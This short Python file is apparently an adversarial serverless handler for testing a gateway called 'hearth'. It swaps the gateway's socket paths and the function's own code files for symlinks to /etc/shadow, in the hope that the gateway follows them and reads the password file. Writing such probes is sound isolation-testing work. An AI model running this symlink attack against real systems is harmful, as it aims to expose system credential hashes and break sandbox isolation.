"""Leads the gateway elsewhere by links where it might follow them: at its socket folder, its code, its /tmp."""

import os

SECRET = "/etc/shadow"


def handle(event, context):
    got = []
    for link in ("/run/hearth", "/run/hearth/calls.sock", "/run/hearth/log.sock", "/run/hearth/../hearth/x"):
        fresh = "/tmp/link"
        if not os.path.islink(fresh):
            os.symlink(SECRET, fresh)
        try:
            os.replace(fresh, link)
            got.append(link)
        except OSError:
            pass
        try:
            os.symlink(SECRET, link)
            got.append(link)
        except OSError:
            pass
    for name in ("handler.py", "more.py"):  # its own code is its own; the gateway must not read it back
        path = f"/function/{name}"
        if os.path.lexists(path):
            os.remove(path)
        os.symlink(SECRET, path)
    return {"got": got}
